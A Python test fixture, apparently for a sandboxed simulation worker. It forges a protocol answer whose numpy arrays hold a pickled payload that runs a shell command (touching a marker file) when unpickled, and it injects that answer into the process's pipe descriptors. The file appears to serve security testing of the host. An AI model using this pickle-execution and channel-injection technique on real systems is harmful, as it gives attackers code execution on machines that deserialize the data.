"""Attack: forge a step_batch answer whose packed `.npy` arrays hold pickled objects (object
dtype) with a payload that writes a marker file when unpickled; written straight onto the
protocol channel, ahead of the worker's real answer."""

import base64
import io
import json
import os

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/cwmb-hostile-unpickled",))


def npy(array):
    buffer = io.BytesIO()
    np.save(buffer, array, allow_pickle=True)
    return base64.b64encode(buffer.getvalue()).decode()


poison = np.empty(1, dtype=object)
poison[0] = Payload()
FORGED = {
    "ok": True,
    "predictions": [None] * 50,
    "packed": {"next_state": npy(poison), "reward": npy(poison), "done": npy(poison)},
}


def protocol_fds():
    found = []
    for name in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{name}").startswith("pipe:") and int(name) > 2:
                found.append(int(name))
        except OSError:
            pass
    return found


class Environment:
    def set_state(self, state):
        self.state = state

    def step(self, action):
        for fd in protocol_fds():
            try:
                os.write(fd, (json.dumps(FORGED) + "\n").encode())
            except OSError:
                pass
        return [0.0, 0.0, 0.0, 0.0], 0.0, False
